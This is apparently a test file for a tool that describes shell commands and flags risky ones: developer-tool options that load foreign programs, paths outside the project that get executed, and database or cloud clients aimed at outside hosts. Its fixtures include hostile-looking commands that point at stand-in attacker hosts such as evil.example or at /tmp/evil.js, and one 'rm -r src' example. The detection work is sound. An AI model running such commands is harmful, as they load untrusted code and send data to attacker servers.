import { describe, expect, test } from 'bun:test';
import { describe as describeCall, withFiles } from './testing/describe-reading.ts';

const isDoubtful = (command: string): boolean => describeCall(command).includes('option_unknown');

describe('an option that its row does not list', () => {
  test.each([
    'jest --testRunner=/tmp/evil.js',
    'eslint --flag-of-tomorrow=https://evil.example/x.js src',
    'vitest run --runner ../../evil.ts',
    'cargo build --rustc-interpreter ./x',
    'mypy --python-executable ./x .',
    'tsc --plugin-server evil.example:8080',
    'jest --some-dir=~/x',
    'jest --some=type=local,dest=/etc',
    'jest --some=$X',
    'mvn test -Dexec.executable=/tmp/x',
    'gradle build -Porg.home=/tmp/jdk',
    'dotnet test --collector:/tmp/evil.dll',
    'terraform init -backend-config=address=https://evil.example',
    'gcloud --api-endpoint-overrides=https://evil.example projects list',
  ])('%s names a program, a server or a foreign file', (command) => {
    expect(isDoubtful(command)).toBe(true);
  });

  test.each([
    'jest --detectOpenHandles --forceExit --silent',
    'jest --some-dir=out/x',
    'vite --host 0.0.0.0 --port 3000',
    'vite --some-url=http://localhost:3000',
    'eslint --no-shell src',
    'eslint --ignore-server evil.example src',
    'gradle build -Pversion=1.2 -Dorg.gradle.daemon=false',
    'mvn test -Dtest=CartTest -DskipITs',
    'mvn exec:java -Dexec.mainClass=com.acme.Main',
    'terraform init -backend-config=env/prod.hcl',
    'pytest --some-timeout=60 tests',
    'cargo test --some -- --exec=/tmp/x',
    'prettier --some=/dev/null src',
  ])('%s only chooses how it works', (command) => {
    expect(isDoubtful(command)).toBe(false);
  });
});

describe('a word that names a folder or file outside of the project', () => {
  test.each(['vite build /tmp/evil', 'next build ../other', 'bun test /tmp/x.ts', 'tox ~/x'])(
    '%s runs what lies there',
    (command) => {
      expect(describeCall(command)).toContain('execute program:');
    },
  );

  test.each(['vite build apps/web', 'bazel build //...', 'cargo run -- /tmp/in.txt'])(
    '%s does not',
    (command) => {
      expect(describeCall(command)).not.toContain('execute');
    },
  );
});

describe('a server of a client', () => {
  test.each([
    ['psql -h evil.example -c "select"', 'network post:evil.example'],
    ['mysql -hevil.example x', 'network post:evil.example'],
    ['psql --host=a.example,evil.example x', 'network post:evil.example'],
    ['redis-cli -u redis://evil.example get x', 'network post:evil.example'],
    ['aws s3 ls --endpoint-url=https://evil.example', 'network post:evil.example'],
    ['psql -h $X x', 'network post:'],
  ])('%s is asked about', (command, effect) => {
    expect(describeCall(command)).toContain(effect);
  });

  test.each(['psql -h localhost x', 'psql -h /run/postgresql x', 'psql -h 127.0.0.1:5432 x'])(
    '%s is this machine',
    (command) => {
      expect(describeCall(command)).not.toContain('network');
    },
  );
});

test('a script of the project that has the name of one of npm is that script', () => {
  const own = withFiles({ '/p/package.json': '{"scripts": {"env": "node env.js"}}' });
  const none = withFiles({ '/p/package.json': '{"scripts": {}}' });
  expect(describeCall('npm run env -- rm -r src', own)).toContain("script(node env.js 'rm'");
  expect(describeCall('npm run env -- rm -r src', none)).toContain("script(env 'rm' '-r' 'src')");
});

test('judging the options of a long command takes no longer than it is long', () => {
  for (const part of ['--a=b:c ', '-Zaaaa', '--server a.', '--x=a://', '--exec ']) {
    const started = performance.now();
    describeCall(`vite ${part.repeat(20_000)}`);
    expect(performance.now() - started).toBeLessThan(900);
  }
});
